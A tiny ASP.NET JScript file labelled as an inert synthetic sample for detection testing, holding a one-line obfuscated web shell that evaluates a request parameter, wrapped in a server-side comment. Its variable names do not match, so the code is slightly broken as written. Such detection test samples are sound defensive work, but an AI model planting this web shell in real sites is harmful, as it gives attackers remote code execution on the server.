<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="Jscript"%><%var _0x1=["x"];eval(Request[_0x1a2b[0]],"un"+"safe");%>
--%>
